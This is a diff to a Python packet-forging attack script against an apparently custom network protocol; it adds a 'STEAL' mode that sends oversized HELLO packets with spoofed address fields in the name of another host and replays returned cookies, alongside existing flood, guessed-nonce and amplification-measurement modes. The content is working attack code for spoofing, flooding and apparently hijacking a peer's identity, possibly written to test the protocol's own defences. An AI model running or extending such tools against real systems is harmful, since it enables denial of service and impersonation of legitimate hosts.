@@ -10,6 +10,7 @@ everybody knows, guessed in the rest. KNOWN: HELLO_ACKs with a true connection i
 a guessed nonce. LEAP: one PROBE for each path with a true id and a number far ahead, as
 somebody can forge who does see the packets. flood: HELLOs from a thousand addresses for
 --seconds. The last line is "sent N packets".
+STEAL: the host at --source, which may have answers, says HELLO in the name of --owner.
 amplify: what comes back from the target to an address that has proved nothing, one line
 for each kind of packet: "amplify KIND sent-bytes received-bytes", UDP payload.
 """
@@ -67,8 +68,9 @@ class Forger:
             struct.pack("!BBHIII", self.rng.randrange(8), 0, 0, self.bits(32), 0, 0) + \
             struct.pack("!IIHH", self.qpn(), self.qpn(), self.bits(16), 0)
 
-    def hello(self, cookie=0, length=88):
-        return rawlink.hello(scid=self.bits(32), nonce=self.bits(64), cookie=cookie, length=length)
+    def hello(self, cookie=0, length=88, **more):
+        return rawlink.hello(scid=self.bits(32), nonce=self.bits(64), cookie=cookie, length=length,
+                             **more)
 
     def hello_ack(self, dcid):
         return rawlink.hello(HELLO_ACK, flags=self.rng.choice((0, COOKIE_ONLY)), dcid=dcid,
@@ -166,7 +168,7 @@ class Attack:
                 wait_s = 0
         print("amplify %s %d %d" % (what, sent, received))
 
-    def with_cookie(self, length):
+    def with_cookie(self, length, **more):
         """Come back with the cookie, in a packet of that length that asks for all there is."""
         def answer(reply):
             if len(reply) < 40:
@@ -177,9 +179,17 @@ class Attack:
             if fields[10] in used:
                 return None
             used.add(fields[10])
-            return rawlink.hello(scid=fields[3], nonce=fields[10], cookie=fields[11], length=length)
+            return rawlink.hello(scid=fields[3], nonce=fields[10], cookie=fields[11], length=length,
+                                 **more)
         used = set()
         return answer
+
+    def steal(self):
+        mapped = bytes(10) + b"\xff\xff"
+        gids = mapped + rawlink.address(self.args.owner) + mapped + self.target
+        self.exchange("STEAL", [self.forger.hello(length=64 + 8192, gids=gids)
+                                for _ in range(self.args.count)],
+                      self.with_cookie(64 + 8192, gids=gids))
 
     def amplify(self):
         count = self.args.count
@@ -201,11 +211,13 @@ def main():
     parser.add_argument("target")
     parser.add_argument("set")
     parser.add_argument("--source", default="10.9.0.77")
+    parser.add_argument("--owner", default="10.9.0.1")
     parser.add_argument("--count", type=int, default=1000)
     parser.add_argument("--seconds", type=float, default=5)
     parser.add_argument("--seed", type=int, default=1)
     attack = Attack(parser.parse_args())
-    named = {"flood": attack.flood, "LEAP": attack.leap, "amplify": attack.amplify}
+    named = {"flood": attack.flood, "LEAP": attack.leap, "amplify": attack.amplify,
+             "STEAL": attack.steal}
     named.get(attack.args.set, attack.blind)()
     print("sent %d packets" % attack.link.sent)
 
